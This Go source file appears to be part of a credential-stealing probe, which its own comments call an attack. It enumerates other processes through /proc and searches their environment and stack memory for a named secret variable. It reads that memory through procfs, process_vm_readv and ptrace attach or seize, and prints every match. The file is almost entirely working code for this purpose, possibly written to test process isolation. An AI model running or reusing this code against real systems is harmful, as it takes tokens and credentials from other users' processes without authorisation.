package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

const mostStack = 128 << 10

var errNothing = errors.New("nothing is in what was read")

const mostGuessed = 64

// others are the processes that can be seen here and that are not of this attack; where none may be listed, numbers to be tried.
func others() []int {
	found := []int{}
	entries, err := os.ReadDir("/proc")
	for pid := 1; err != nil && pid <= mostGuessed; pid++ {
		if pid != os.Getpid() && pid != os.Getppid() {
			found = append(found, pid)
		}
	}
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err == nil && pid != os.Getpid() && pid != os.Getppid() {
			found = append(found, pid)
		}
	}
	return found
}

// ofOthers prints what is read of each of the other processes; it works if the variable that holds the secret is in it.
func ofOthers(variable string, read func(pid int) ([]byte, error)) error {
	last, worked := errors.New("no other process is seen"), false
	for _, pid := range others() {
		content, err := read(pid)
		if err == nil && !bytes.Contains(content, []byte(variable+"=")) {
			err = errNothing
		}
		if err == nil {
			worked = true
			fmt.Printf("%d: %s\n", pid, bytes.ReplaceAll(bytes.Trim(content, "\x00"), []byte{0}, []byte{'\n'}))
		} else if !errors.Is(last, syscall.EPERM) && !errors.Is(err, syscall.ENOENT) {
			last = err
		}
	}
	if worked {
		return nil
	}
	return last
}

// environsOfOthers VARIABLE
func environsOfOthers(place string) deed {
	return func(words []string) error {
		return ofOthers(words[0], func(pid int) ([]byte, error) {
			if strings.Contains(place, "%d") {
				return os.ReadFile(fmt.Sprintf("/proc/%d/"+place, pid, pid))
			}
			return os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, place))
		})
	}
}

// stacksOfOthers VARIABLE reads what lies on their stacks, where the environment of a process is too.
func stacksOfOthers(read func(pid int, from, to uintptr) ([]byte, error)) deed {
	return func(words []string) error {
		return ofOthers(words[0], func(pid int) ([]byte, error) {
			maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
			if err != nil {
				return nil, err
			}
			for _, line := range strings.Split(string(maps), "\n") {
				var from, to uintptr
				if !strings.Contains(line, "[stack]") {
					continue
				}
				fmt.Sscanf(line, "%x-%x", &from, &to)
				return read(pid, max(from, to-mostStack), to)
			}
			return nil, errors.New("no stack is shown")
		})
	}
}

type vector struct{ base, length uintptr }

func readVM(pid int, from, to uintptr) ([]byte, error) {
	content := make([]byte, to-from)
	here := vector{given(content), to - from}
	there := vector{from, to - from}
	_, err := call(sysProcessVMReadv, uintptr(pid), at(unsafe.Pointer(&here)), 1, at(unsafe.Pointer(&there)), 1, 0)
	if err != nil {
		return nil, fmt.Errorf("process_vm_readv: %w", err)
	}
	return content, nil
}

func readProcMem(pid int, from, to uintptr) ([]byte, error) {
	return readMemFile(fmt.Sprintf("/proc/%d/mem", pid), from, to)
}

func readTaskMem(pid int, from, to uintptr) ([]byte, error) {
	return readMemFile(fmt.Sprintf("/proc/%d/task/%d/mem", pid, pid), from, to)
}

func readMemFile(name string, from, to uintptr) ([]byte, error) {
	file, err := os.Open(name)
	if err != nil {
		return nil, err
	}
	defer file.Close()
	content := make([]byte, to-from)
	_, err = file.ReadAt(content, int64(from))
	return content, err
}

const ( // ptrace(2)
	peekData, attach, detach, seize, interrupt = 2, 16, 17, 0x4206, 0x4207
	everyThread                                = 0x40000000 // __WALL
)

func readSeized(pid int, from, to uintptr) ([]byte, error) {
	if _, err := call(sysPtrace, seize, uintptr(pid), 0, 0); err != nil {
		return nil, fmt.Errorf("ptrace (seize): %w", err)
	}
	if _, err := call(sysPtrace, interrupt, uintptr(pid), 0, 0); err != nil {
		return nil, fmt.Errorf("ptrace (interrupt): %w", err)
	}
	return peeked(pid, from, to)
}

func readAttached(pid int, from, to uintptr) ([]byte, error) {
	if _, err := call(sysPtrace, attach, uintptr(pid), 0, 0); err != nil {
		return nil, fmt.Errorf("ptrace (attach): %w", err)
	}
	defer syscall.Kill(pid, syscall.SIGCONT)
	return peeked(pid, from, to)
}

// peeked waits until a traced process stands still, reads its memory word by word, and lets it go.
func peeked(pid int, from, to uintptr) ([]byte, error) {
	for end := time.Now().Add(500 * time.Millisecond); ; time.Sleep(time.Millisecond) {
		if got, err := syscall.Wait4(pid, nil, everyThread|syscall.WNOHANG, nil); err != nil {
			return nil, err
		} else if got == pid {
			break
		}
		if time.Now().After(end) {
			return nil, errors.New("it does not stop")
		}
	}
	defer call(sysPtrace, detach, uintptr(pid), 0, 0)
	content := make([]byte, to-from)
	for place := uintptr(0); place+8 <= to-from; place += 8 {
		if _, err := call(sysPtrace, peekData, uintptr(pid), from+place, at(unsafe.Pointer(&content[place]))); err != nil {
			return nil, fmt.Errorf("ptrace (peek): %w", err)
		}
	}
	return content, nil
}
